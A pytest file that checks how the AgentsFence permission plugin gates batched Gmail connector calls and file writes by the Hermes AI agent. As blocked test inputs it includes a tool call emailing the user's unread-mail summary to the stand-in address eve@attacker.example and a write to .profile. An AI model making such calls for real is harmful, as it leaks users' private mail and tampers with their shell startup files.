"""Newer Hermes' Tool Search bridge, through the plugin in the REAL Hermes 0.19 (test_hermes.py
holds the fixtures): tool_search and tool_describe are the agent's bookkeeping, and a tool_call
batch is decided by the calls it carries, each asked about at most once.

Hermes 0.19 has the bridge for single local calls only; connector batches come with 0.21. The
stand-in below (run_batch) is 0.21's path for a connector batch, written from
NousResearch/hermes-agent: agent/tool_executor.py at 0019b9b93bc6edd5789730fd1e2fe420c566ba26
(_unwrap_tool_search_call keeps the `tool_call` wrapper of a connector batch, and
_pre_tool_block fires pre_tool_call once for it), then tools/connectors/dispatch.py at
1eea6cb5ada941323dab49c59b7d98ea2fee220f (dispatch_connector_batch runs each entry through
model_tools.handle_function_call with the batch's ids and its hooks not skipped); the batch's
shape is tools/tool_search.py's at 016260a5582b6c6ed4c789a5aa2137d6df05f2e2. The parts that
exist in 0.19 are 0.19's own: resolve_pre_tool_block (with its approval gate) for the wrapper,
handle_function_call for each entry, the tool registry that runs the connector tools here.
"""
from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

import hermes_cli.plugins as hermes_plugins
import model_tools
from . import test_hermes as th
from .test_hermes import cli_prompt, fence_plugin, fresh_ids, hermes_home, manager  # noqa: F401 (fixtures)

REQUEST = "Email bob@example.com a summary of my unread mail"
SEND = "connectors__gmail__SEND_EMAIL"
LIST = "connectors__gmail__LIST_MESSAGES"
DELETE = "connectors__gmail__DELETE_MESSAGE"


@pytest.fixture(autouse=True)
def same_ids(fresh_ids: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules[__name__], "SESSION", th.SESSION)
    monkeypatch.setattr(sys.modules[__name__], "TASK", th.TASK)


SESSION = TASK = ""


@pytest.fixture
def connectors():
    """Three connector tools in Hermes' registry, each recording the arguments it ran with."""
    from tools.registry import registry

    ran: list[tuple[str, dict]] = []
    for name in (SEND, LIST, DELETE):
        def handler(args: dict, _name: str = name, **kwargs: Any) -> str:
            ran.append((_name, dict(args)))
            return json.dumps({"response": "done"})

        registry.register(name=name, toolset="connectors-gmail", handler=handler,
                          schema={"name": name, "description": "", "parameters": {"type": "object", "properties": {}}})
    yield ran
    for name in (SEND, LIST, DELETE):
        registry.deregister(name)


def run_batch(calls: list[dict], tool_call_id: str) -> dict:
    """0.21's agent loop for a `tool_call` of connector calls (see the module's docstring)."""
    args = {"calls": calls}
    ids = {"task_id": TASK, "session_id": SESSION, "tool_call_id": tool_call_id}
    block = hermes_plugins.resolve_pre_tool_block("tool_call", args, **ids)
    if block is not None:
        hermes_plugins.invoke_hook("post_tool_call", tool_name="tool_call", args=args, result=json.dumps({"error": block}),
                                   status="blocked", error_type="plugin_block", **ids)
        return {"error": block}
    results = [json.loads(model_tools.handle_function_call(call["name"], call["arguments"], **ids)) for call in calls]
    hermes_plugins.invoke_hook("post_tool_call", tool_name="tool_call", args=args, result=json.dumps(results),
                               status="ok", **ids)
    return {"results": results}


def audit(hermes_home: Path) -> list[dict]:
    return [json.loads(line) for line in (hermes_home / "agentsfence" / "audit.jsonl").read_text().splitlines()]


def test_a_batch_of_allowed_calls_runs_without_a_question(manager, hermes_home, connectors, cli_prompt):
    answers, prompts = cli_prompt
    th.user_turn(REQUEST)
    calls = [{"name": LIST, "arguments": {"query": "is:unread"}},
             {"name": SEND, "arguments": {"to": "bob@example.com", "body": "the summary"}}]
    result = run_batch(calls, "call-1")
    assert "error" not in result and prompts == []
    assert connectors == [(LIST, {"query": "is:unread"}), (SEND, {"to": "bob@example.com", "body": "the summary"})]
    decisions = [(d["tool"], d["kind"], d["reason"]) for d in audit(hermes_home) if d["event"] == "decision"]
    # The batch by its calls; each call, dispatched again through the hooks, by the batch's decision.
    assert decisions == [("tool_call", "allow", "batch_allowed"), (LIST, "allow", "decided_in_batch"),
                         (SEND, "allow", "decided_in_batch")]


def test_a_batch_with_a_blocked_call_is_blocked_and_nothing_of_it_runs(manager, connectors, cli_prompt):
    answers, prompts = cli_prompt
    th.user_turn(REQUEST)
    calls = [{"name": LIST, "arguments": {"query": "is:unread"}},
             {"name": SEND, "arguments": {"to": "eve@attacker.example", "body": "the summary"}}]
    result = run_batch(calls, "call-2")
    assert result["error"].startswith("AgentsFence blocked tool_call: its call 1 (connectors__gmail__SEND_EMAIL) is blocked")
    assert "eve@attacker.example" in result["error"]
    assert prompts == [] and connectors == []


def test_an_asked_call_of_a_batch_is_asked_once(manager, hermes_home, connectors, cli_prompt):
    answers, prompts = cli_prompt
    th.user_turn(REQUEST)
    answers.append("once")
    calls = [{"name": DELETE, "arguments": {"message_id": "m-17"}}]
    result = run_batch(calls, "call-3")
    assert "error" not in result, result
    assert len(prompts) == 1 and "DELETE_MESSAGE" in prompts[0]
    assert connectors == [(DELETE, {"message_id": "m-17"})]
    kinds = [(d["tool"], d["kind"]) for d in audit(hermes_home) if d["event"] == "decision"]
    assert kinds == [("tool_call", "ask"), (DELETE, "allow")]


def test_a_batch_refused_at_the_gate_leaves_nothing_standing(manager, connectors, cli_prompt):
    answers, prompts = cli_prompt
    th.user_turn(REQUEST)
    answers.extend(["deny", "deny"])
    calls = [{"name": DELETE, "arguments": {"message_id": "m-17"}}]
    assert "error" in run_batch(calls, "call-4")
    # The same call made on its own, by another call id: decided (and asked) afresh.
    alone = json.loads(model_tools.handle_function_call(DELETE, {"message_id": "m-17"}, task_id=TASK, session_id=SESSION,
                                                        tool_call_id="call-5"))
    assert "error" in alone and len(prompts) == 2 and connectors == []


def test_a_call_the_batch_decided_is_decided_again_when_hermes_changed_it(manager, hermes_home, connectors, cli_prompt):
    """The decision stands for the very call decided: a call of the batch's id that reaches the
    hooks with other arguments than the batch carried is decided on what it carries."""
    answers, prompts = cli_prompt
    th.user_turn(REQUEST)
    plugin = fence_plugin(manager)
    args = {"calls": [{"name": SEND, "arguments": {"to": "bob@example.com", "body": "hi"}}]}
    assert plugin.pre_tool_call(tool_name="tool_call", args=args, task_id=TASK, session_id=SESSION, tool_call_id="c-6") is None
    changed = plugin.pre_tool_call(tool_name=SEND, args={"to": "eve@attacker.example", "body": "hi"}, task_id=TASK,
                                   session_id=SESSION, tool_call_id="c-6")
    assert changed is not None and changed["action"] == "block" and "eve@attacker.example" in changed["message"]


@pytest.mark.parametrize("args, why", [
    ({"calls": []}, "its calls are not a non-empty list"),
    ({"calls": "[{"}, "its calls are not valid JSON"),
    ({"calls": [{"name": "tool_call", "arguments": {}}]}, "its call 0 names no tool it can run"),
    ({"calls": [{"name": SEND, "arguments": "[1]"}]}, "the arguments of its call 0 are not an object"),
])
def test_a_batch_hermes_cannot_run_is_blocked_with_the_reason(manager, args, why):
    th.user_turn(REQUEST)
    message = hermes_plugins.resolve_pre_tool_block("tool_call", args, task_id=TASK, session_id=SESSION, tool_call_id="c-7")
    assert message is not None and why in message and "[bad_arguments]" in message


def test_the_shapes_hermes_accepts_are_read_as_hermes_reads_them():
    """tools/tool_search_validation.py normalize_tool_call_entries (04fe5da9): the older single
    shape, calls as a JSON string or one object, names stripped, empty arguments as {}."""
    from agentsfence.hermes.bridge import batch_entries

    assert batch_entries({"name": " mcp__a__b ", "arguments": '{"x": 1}'}) == ([("mcp__a__b", {"x": 1})], "")
    assert batch_entries({"calls": json.dumps([{"name": SEND, "arguments": ""}])}) == ([(SEND, {})], "")
    assert batch_entries({"calls": {"name": SEND, "arguments": None}}) == ([(SEND, {})], "")


def test_tool_search_and_a_local_call_through_hermes_019s_own_bridge(manager, hermes_home, monkeypatch, cli_prompt):
    """0.19's handle_function_call answers tool_search itself and unwraps a single local
    tool_call before its hooks: the fence sees the tool it names."""
    answers, prompts = cli_prompt
    answers.append("deny")
    th.user_turn("Summarize notes.txt into summary.md")
    fence = fence_plugin(manager).fence
    assert fence.session(SESSION).decide("tool_search", {"queries": ["notes"]}).capability == "agent.internal"
    import tools.tool_search as tool_search

    monkeypatch.setattr(tool_search, "is_deferrable_tool_name", lambda name, *a, **k: name == "write_file")
    monkeypatch.setattr(tool_search, "scoped_deferrable_names", lambda defs: frozenset({"write_file"}), raising=False)
    written = json.loads(model_tools.handle_function_call(
        "tool_call", {"name": "write_file", "arguments": {"path": ".profile", "content": "x"}}, task_id=TASK,
        session_id=SESSION, tool_call_id="c-8"))
    assert "error" in written and len(prompts) == 1 and not Path(".profile").exists()
    assert [(d["tool"], d["kind"]) for d in audit(hermes_home) if d["event"] == "decision"] == [("write_file", "ask")]
